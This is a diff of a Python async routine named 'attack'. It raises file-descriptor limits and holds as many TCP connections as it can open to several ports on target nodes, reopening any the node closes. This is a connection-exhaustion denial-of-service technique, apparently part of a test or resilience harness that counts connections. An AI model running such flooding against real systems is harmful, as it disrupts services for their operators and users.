@@ -15,10 +15,12 @@ async def attack(target: Target) -> None:
     hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     target.begun()
-    await asyncio.gather(*(_hold(place.host, port) for place in target.places[:2] for port in (place.port + 1, place.port)))
+    await asyncio.gather(
+        *(_hold(target, place.host, port) for place in target.places[:2] for port in (place.port + 1, place.port))
+    )
 
 
-async def _hold(host: str, port: int) -> None:
+async def _hold(target: Target, host: str, port: int) -> None:
     """So many at a time; what the node closes is opened again."""
     held: list[asyncio.StreamWriter] = []
     while True:
@@ -26,6 +28,7 @@ async def _hold(host: str, port: int) -> None:
             with contextlib.suppress(OSError, TimeoutError):
                 async with asyncio.timeout(2):
                     held.append((await asyncio.open_connection(host, port))[1])
+                    target.arrived["connections"] += 1
                 continue
             break
         await asyncio.sleep(1)
